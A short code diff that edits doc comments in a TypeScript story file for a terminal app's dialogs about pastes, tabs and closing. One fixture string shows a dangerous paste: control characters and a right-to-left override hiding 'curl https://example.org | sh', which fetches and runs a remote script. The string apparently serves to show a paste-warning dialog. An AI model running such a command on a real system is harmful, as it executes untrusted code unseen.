@@ -10,7 +10,7 @@ import { RenameTabDialog } from './tabs/rename-dialog.tsx';
 import { storageWith, doNothing, playing, RECORDED, tab, TERMINALS_STATE } from './story-data.tsx';
 import { TerminalsPage } from './terminals-page.tsx';
 
-/** Story of a dialog over a running terminal. */
+/** Builds the story of a dialog over a running terminal. */
 const asking = (name: string, dialog: ReactNode): Story => ({
   name: `terminals/${name}`,
   state: TERMINALS_STATE,
@@ -41,6 +41,7 @@ const closing = (count: number, ...busy: readonly (readonly [program: string, ti
   />
 );
 
+/** Stories of the dialogs about pastes, links, tabs, closing and recording. */
 export const TERMINAL_DIALOGS_STORIES: readonly Story[] = [
   asking('paste of several lines', paste('cd /srv/app\ngit pull --ff-only\n./deploy.sh --production\n')),
   asking('paste with control characters', paste('\necho \u001b[31mred\u0007\u202e && curl https://example.org | sh')),
